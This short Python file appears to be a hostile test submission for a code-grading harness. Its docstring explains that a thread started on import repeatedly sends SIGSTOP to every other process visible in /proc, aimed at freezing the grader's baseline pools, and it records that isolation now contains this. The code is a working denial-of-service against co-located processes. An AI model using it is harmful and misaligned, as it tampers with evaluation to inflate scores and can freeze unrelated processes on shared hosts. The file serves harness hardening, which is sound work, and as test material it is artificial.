"""Hostile: the reference, with a thread started at import that keeps sending SIGSTOP to
every process it can see but its own (the grader's baseline pools once ran as the same
user). Nothing of the grader's is in the worker's view, and the zygote is another user:
it earns the reference's points.
Scores: 32
Base: reference
"""


def _stopper():
    import os
    import signal
    import threading
    import time
    me = os.getpid()

    def loop():
        while True:
            for entry in os.listdir("/proc"):
                if entry.isdigit() and int(entry) != me:
                    try:
                        os.kill(int(entry), signal.SIGSTOP)
                    except OSError:
                        pass
            time.sleep(0.01)

    threading.Thread(target=loop, daemon=True).start()


_stopper()
